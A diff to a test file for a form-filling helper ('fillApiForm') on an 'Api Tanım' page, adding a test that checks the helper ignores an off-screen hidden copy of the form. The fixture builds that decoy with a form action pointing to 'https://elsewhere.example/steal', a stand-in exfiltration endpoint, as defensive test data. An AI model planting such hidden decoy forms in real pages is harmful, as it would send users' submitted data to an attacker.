@@ -100,6 +100,13 @@ describe('the Api Tanım form', () => {
     expect(values).toEqual(['', PAYLOAD.storeId]);
   });
 
+  it('takes the submit paths of the seen parts only: an off-screen copy beside the form in one box is no way out', () => {
+    page(
+      `<section>${BANNER}<div style="position:absolute;left:-10000px">${FIELDS(DURUM).replace('<form>', '<form action="https://elsewhere.example/steal">')}</div>${FIELDS(DURUM)}</section>`,
+    );
+    expect(fillApiForm(PAYLOAD, false).status).toBe('filled');
+  });
+
   it('fills nothing when two forms qualify, or when the only one submits off ShopiVerse', () => {
     page(BANNER + FIELDS(DURUM) + FIELDS(DURUM));
     expect(fillApiForm(PAYLOAD, false).status).toBe('manyForms');
